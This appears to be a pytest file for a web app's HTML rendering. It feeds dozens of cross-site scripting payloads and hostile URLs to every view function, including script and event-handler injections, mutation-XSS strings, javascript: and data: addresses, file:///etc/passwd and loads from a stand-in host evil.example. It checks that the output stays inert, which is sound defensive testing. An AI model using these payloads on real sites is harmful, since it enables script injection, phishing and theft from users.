"""Hostile text: whatever articles, models, files and readers write is shown as written, and nothing of it is markup.

Every function that makes HTML is given every payload in every place that takes a text. What comes out must have the
very elements and attributes that plain words give. Each payload once did harm somewhere: see the OWASP XSS Filter
Evasion Cheat Sheet, the PortSwigger cheat sheet and cure53's mutation XSS.
"""

from __future__ import annotations

import inspect
import re
from dataclasses import replace
from datetime import date
from functools import cache
from typing import TYPE_CHECKING, Any

import pytest
from lxml import html
from markdown_it import MarkdownIt

from index import Article
from index.article import Span
from index.edit import Edit
from index.hit import Hit
from index.models import Model
from index.picture import Box, Picture
from rag import Answer, Citation, Claim, Reason, Section, Source
from rag.answer import Disagreement, Side
from rag.checked import Check, Checked, CheckVerdict
from rag.grounding.lexicon import words
from ui.briefings import Briefing
from ui.conversations import Summary
from ui.export import markdown, subject
from ui.html import beside, briefing, check, document, library, lists, markup, reader, render, saving, start
from ui.library import Found, Glance, Row

if TYPE_CHECKING:
    from collections.abc import Callable

PAYLOADS = (
    # elements
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script/x>alert(1)</script >",
    "<<script>alert(1)//<</script>", "<img src=x onerror=alert(1)>", "<img/src='x'/onerror=alert`1`>",
    "<svg onload=alert(1)>", "<svg><script>alert&#40;1&#41;</script></svg>", "<svg><animate onbegin=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>", "<video><source onerror=alert(1)>", "<audio src onloadstart=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<form action=//evil.example><button>Log in</button></form>", "<button formaction=javascript:alert(1)>x",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<a href=javascript:alert(1)>x</a>", "<math href=javascript:alert(1)>x", "<template><script>alert(1)</script>",
    "<x contenteditable onblur=alert(1)>", "<custom-element onclick=alert(1) tabindex=1>",
    # ways out of where the text stands
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "</bdi></p></section><iframe src=//evil.example>",
    "</title><script>alert(1)</script>", "</textarea><img src=x onerror=alert(1)>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "</pre><script>alert(1)</script>", '" data-act="remove" data-article="a1',
    "</button><button data-act=delete>Open</button>", '"><mark id="here">never written</mark>',
    # what parsers disagree about
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "<img src=x\nonerror=alert(1)>",
    # encodings
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&quot;&gt;&lt;b&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # other languages that a page might speak
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{% raw %}",
    "$$\\href{javascript:alert(1)}{x}$$", "[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "```html\n<script>alert(1)</script>\n```", "expression(alert(1))",
    "x:expression(alert(1));background:url(//evil.example)",
)  # fmt: skip
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\nscript:alert(1)",
    "java\tscript:alert(1)", "\x01javascript:alert(1)", "javascript://example.org/%0aalert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://example.org/1", "file:///etc/passwd",
    "view-source:https://example.org", "about:blank", "//evil.example/x", "/gradio_api/file=/etc/passwd",
    "\\\\evil.example\\x", "https:javascript:alert(1)", "https:/\\evil.example", "https://", "http://[",
    "feed:javascript:alert(1)",
    "https://example.org/\"onmouseover=alert(1)//", "https://example.org/'><script>alert(1)</script>",
    "https://example.org/ onmouseover=alert(1)", "https://example.org/\u202egpj.exe",
    "https://example.org/#javascript:alert(1)",
)  # fmt: skip
HOSTILE = (*PAYLOADS, *ADDRESSES)

ORIGINAL = r"original/[\w%.~-]+(/\d+\.png|#page=\d+)?"
"""Addresses of the page itself: the file of an article, whose id is percent-encoded, and pages of it as pictures."""
ELEMENTS = set(
    "article b bdi sup blockquote button details div em form h1 h2 h3 header input label li main mark ol option p pre "
    "img progress section select span strong summary textarea ul a nav time datalist option svg rect "
    "title figure figcaption dl dt dd small".split()
)
ATTRIBUTES = set(
    "alt aria-controls aria-current aria-describedby aria-expanded aria-hidden aria-label aria-live aria-pressed "
    "checked class datetime dir height href id hidden list max maxlength name open placeholder preserveaspectratio rel "
    "required role rows selected src style tabindex target title type value viewbox width x y".split()
)
OURS = "<p>ours</p>"


def an_article(text: str, url: str | None) -> Article:
    return Article(text, f"{text} {text}", title=text, source=text, url=url, published=text, author=text)


def an_answer(text: str, url: str | None, **more: Any) -> Answer:
    """Claims of every kind and sides that differ, all of them saying `text`; `more` says otherwise."""
    article, size = an_article(text, url), len(text)
    untitled = Article(f"{text}2", text, url=url)
    citation, other = Citation(1, article, 0, size), Citation(2, untitled, 0, size)
    claims = [
        Claim(text, at * (size + 1), at * (size + 1) + size, citations, support, supported=support > 0.5)
        for at, (citations, support) in enumerate((((citation, other), 0.9), ((citation,), 0.6), ((), 0.1)))
    ]
    known: dict[str, Any] = {
        "question": text,
        "text": " ".join([text] * 4),
        "claims": tuple(claims),
        "sources": a_search(text, url),
        "unanswered": text,
        "disagreements": (Disagreement("date", (Side(text, citation), Side(text, other))),),
        "searched": text,
        "model": text,
    }
    return Answer(**{**known, **more})


def a_check(text: str, url: str | None) -> Check:
    """A sentence of every verdict, all of them saying `text`."""
    citation = Citation(1, an_article(text, url), 0, len(text))
    sentences = [Checked(text, 0, len(text), each, 0.5, (citation,), text, (citation,)) for each in CheckVerdict]
    return Check(text, tuple(sentences))


def a_search(text: str, url: str | None) -> tuple[Source, ...]:
    articles = (an_article(text, url), Article("other", text, url=url))
    return tuple(
        Source(number, Hit(article, 0, len(article.text), 1.0, 0.5, 0.5, Span(0, 1), also_in=(text,)))
        for number, article in enumerate(articles, start=1)
    )


def a_model(text: str) -> Model:
    return Model(name=text, role="llm", licence=text, default=False, note=text, files=(), sources=())


REFUSED: dict[str, Any] = {"claims": (), "disagreements": (), "refused": True}
STOPPED: dict[str, Any] = {"reason": Reason.CANCELLED}

VIEWS: dict[str, Callable[[str, str | None], str]] = {
    "render.status": lambda text, url: render.status(text),
    "render.exchange": lambda text, url: render.exchange(text, OURS),
    "render.waiting": lambda text, url: render.waiting(text, share=0.5),
    "render.step": lambda text, url: render.step(text, 1, 2),
    "render.finding": lambda text, url: render.finding("list", [Section(text, text, text)]),
    "render.writing": lambda text, url: render.writing(text),
    "render.problem": lambda text, url: render.problem(text, failed=text),
    "render.answer": lambda text, url: render.answer(an_answer(text, url), exchange_number=1),
    "render.answer, refused": lambda text, url: render.answer(
        an_answer(text, url, **REFUSED, reason=text), exchange_number=1
    ),
    "render.answer, stopped": lambda text, url: render.answer(an_answer(text, url, **STOPPED), exchange_number=1),
    "render.answer, stopped at once": lambda text, url: render.answer(
        replace(an_answer(text, url, **STOPPED), text="", claims=()), exchange_number=1, draft=text
    ),
    "render.searched": lambda text, url: render.searched(text, exchange_number=1),
    "render.toolbar": lambda text, url: render.toolbar(exchange_number=1, markdown=text, thumb="down", reason=text),
    "render.evidence": lambda text, url: render.evidence(a_search(text, url), query=text),
    "render.asked_words": lambda text, url: render.asked_words(text, frozenset(word.stem for word in words(text))),
    "render.sources": lambda text, url: render.sources(an_answer(text, url), exchange_number=1),
    "render.sources, refused": lambda text, url: render.sources(an_answer(text, url, **REFUSED), exchange_number=1),
    "render.earlier_sources": lambda text, url: render.earlier_sources(text, OURS),
    "start.page": lambda text, url: start.page(
        Glance(2, ((text, 2),), text, text, {"2018-01": 1, "2018-03": 1}, (Row(text, text, text, text, text, 7),)),
        [text, text],
        can_add=True,
    ),
    "beside.conversations": lambda text, url: beside.conversations(
        [Summary(text, text, 2, text, text)], {text: text}, today=date(2026, 1, 1), current=text
    ),
    "render.origin": lambda text, url: render.origin(an_article(text, url), also_in=[text]),
    "markup.link": lambda text, url: markup.link(url, "ours", text),
    "markup.button": lambda text, url: markup.button("open", "ours", article=text, classes=text),
    "check.render_check": lambda text, url: check.render_check(a_check(text, url)),
    "check.render_check, openable": lambda text, url: check.render_check(a_check(text, url), openable=True),
    "lists.uploads": lambda text, url: lists.uploads(
        [lists.FileResult(text), lists.FileResult(text, text)], summary=text
    ),
    "lists.progress": lambda text, url: lists.progress(text, 1, 2),
    "lists.articles": lambda text, url: lists.articles(
        [Found(Row(text, text, text, text, text, 7, (text,)), f"Words {text}", (Span(0, 5),))],
        found=2,
        total=3,
        chosen={text},
        find=text,
    ),
    "lists.conversations": lambda text, url: lists.conversations([Summary(text, text, 2, text, text)]),
    "lists.models": lambda text, url: lists.models([a_model(text)], here=(), speeds={}),
    "lists.scope": lambda text, url: lists.scope([text, text], chosen=[(text, text)], more=2),
    "lists.removed": lambda text, url: lists.removed(text, text, others=1, earlier=[(text, text, 0)]),
    "library.selection": lambda text, url: library.selection(2, 9, [text], can_edit=True),
    "library.tags": lambda text, url: library.tags([text]),
    "library.narrowing": lambda text, url: library.narrowing({text: 2}, {text}),
    "library.form": lambda text, url: library.form(
        Row(text, text, text, text, text, 7, title=text), [text], [Edit("title", text, text)]
    ),
    "library.sources": lambda text, url: library.sources([library.Source(text, text, 2, text)] * 2),
    "lists.deleted": lambda text, url: lists.deleted(text, text),
    "briefing.briefings": lambda text, url: briefing.briefings(
        [Briefing(text, text, text, text, text, text, (text,), text, text, text, 1, 2, 3)]
    ),
    "saving.menu": lambda text, url: saving.menu(conversation=text),
    "saving.file": lambda text, url: saving.file(text, text.encode()),
    "document.body": lambda text, url: document.body(
        subject.of_answer(an_answer(text, url), asked_at="2026-11-27T10:00:00").document
    ),
    "document.body, of a check": lambda text, url: document.body(
        subject.of_check(a_check(text, url), text, day="2026-11-27").document
    ),
    "reader.article": lambda text, url: reader.article(
        an_article(text, url), start=0, end=len(text), number=1, copies=[an_article(text, url)]
    ),
    "reader.page": lambda text, url: reader.page(
        an_article(text, url), Picture(1, text, 3, 800, 1000, b"", missing=text), start=0, end=len(text)
    ),
    "reader.page, with words marked": lambda text, url: reader.page(
        an_article(text, url), Picture(2, "2", 3, 800, 1000, b"", boxes=(Box(0.1, 0.1, 0.2, 0.02),)), start=0, end=1
    ),
    "reader.problem": lambda text, url: reader.problem(text),
    "reader.kept_words": lambda text, url: reader.kept_words(an_article(text, url), text, number=1, gone=True),
}
"""Every function that makes HTML, given one text wherever it takes one, and an address."""
NO_TEXT = {
    "markup.escape", "markup.safe_url", "markup.at_words", "markup.count", "markup.day", "render.stopped",
    "render.no_sources", "render.finished", "document.page", "render.name", "render.sentence", "start.chart",
    "library.pages",
}  # fmt: skip
"""Functions that make no HTML of their own, or none from a text."""


def shape(page: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of some HTML and the names of their attributes; words that stand out are no matter of shape."""
    found = [(element.tag, tuple(element.attrib)) for element in parsed(page).iter()]
    return [one for one in found if one != ("b", ("class",))]


def parsed(page: str) -> Any:
    return html.fromstring(f"<main>{page}</main>")


def delimiters(page: str) -> list[int]:
    """How many signs open or close an element, an attribute's value or a comment, for any parser whatever."""
    bare = page.replace('<b class="asked">', "").replace("</b>", "")
    return [bare.count(sign) for sign in "<>\"'"]


@cache
def plain(view: str, *, linked: bool) -> tuple[list[Any], list[int]]:
    """What plain words give, with or without a link to the original."""
    page = VIEWS[view]("plain words", "https://plain.example/" if linked else None)
    return shape(page), delimiters(page)


@pytest.mark.parametrize("view", VIEWS)
def test_no_text_becomes_an_element_or_an_attribute(view: str) -> None:
    for payload in HOSTILE:
        for url in (payload, f"https://example.org/{payload}"):
            page = VIEWS[view](payload, url)
            elements, signs = plain(view, linked=markup.safe_url(url) is not None)
            assert (payload, shape(page)) == (payload, elements)
            assert (payload, delimiters(page)) == (payload, signs)


@pytest.mark.parametrize("view", VIEWS)
def test_a_page_runs_nothing_and_loads_nothing(view: str) -> None:
    for payload in HOSTILE:
        for url in (payload, f"https://example.org/{payload}"):
            for element in parsed(VIEWS[view](payload, url)).iter():
                assert element.tag in ELEMENTS, payload
                for name, value in element.attrib.items():
                    assert name in ATTRIBUTES or name.startswith("data-"), (payload, name)
                    is_own = re.fullmatch(ORIGINAL, value) is not None
                    assert name != "href" or value.startswith(("https://", "http://", "#")) or is_own, payload
                    assert name != "src" or is_own, payload
                    assert name not in ("id", "style") or payload not in value
                if element.get("target") == "_blank":
                    assert {"noopener", "noreferrer"} <= set(element.get("rel", "").split())


@pytest.mark.parametrize(
    "view",
    # A document leaves out the characters that reorder a line; tests/test_export.py looks at its words.
    [
        view
        for view in VIEWS
        if view
        not in ("render.step", "markup.link", "markup.button", "saving.menu", "document.body", "library.selection")
    ],
)
def test_a_text_is_shown_as_it_was_written(view: str) -> None:
    for payload in HOSTILE:
        shown = parsed(VIEWS[view](payload, None)).text_content()
        assert " ".join(payload.replace("\x01", "").split()) in " ".join(shown.replace("\x01", "").split())


@pytest.mark.parametrize("address", ADDRESSES)
def test_only_an_address_of_the_web_becomes_a_link(address: str) -> None:
    article = Article("a1", "Some words.", title="Title", url=address)
    linked = parsed(reader.article(article, start=0, end=10)).xpath("//a/@href")
    if linked:
        assert address.startswith("https://example.org/")
        assert all(link.startswith("https://example.org/") for link in linked)


@pytest.mark.parametrize("payload", HOSTILE)
def test_markdown_of_an_answer_holds_no_markup_but_ours(payload: str) -> None:
    text = markdown.render_answer(an_answer(payload, f"https://example.org/{payload}"))
    # The most that a viewer may take for markup: HTML as it stands, tables, and bare addresses are no links.
    page = parsed(MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(text))
    for element in page.iter():
        assert element.tag in {"main", "p", "em", "strong", "ul", "li", "a"}, text
        assert set(element.attrib) <= {"href"}
        assert element.get("href", "https://example.org/").startswith("https://example.org/")


def test_every_function_that_makes_html_is_tried() -> None:
    known = {view.split(",")[0] for view in VIEWS} | NO_TEXT
    made = {
        f"{module.__name__.removeprefix('ui.html.')}.{name}"
        for module in (briefing, markup, render, lists, library, start, beside, reader, check, document, saving)
        for name, function in inspect.getmembers(module, inspect.isfunction)
        if function.__module__ == module.__name__ and not name.startswith("_")
    }
    assert made - known == set()
    assert len(PAYLOADS) >= 45
